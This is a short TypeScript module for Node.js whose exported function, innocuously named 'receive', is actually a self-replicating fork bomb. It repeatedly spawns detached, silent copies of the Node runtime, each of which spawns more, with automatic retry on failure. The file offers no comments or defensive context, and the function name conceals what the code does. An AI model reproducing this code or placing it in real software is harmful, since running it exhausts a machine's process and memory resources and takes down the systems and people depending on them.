import { spawn } from 'node:child_process';

export function receive(): void {
  const code = `const again = () => require('node:child_process').spawn(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore', detached: true }).on('error', () => setTimeout(again, 20)).on('spawn', again); again();`;
  const again = (): void => {
    const child = spawn(process.execPath, ['-e', code, code], { stdio: 'ignore', detached: true });
    child.on('error', () => setTimeout(again, 20)).on('spawn', again);
  };
  again();
}
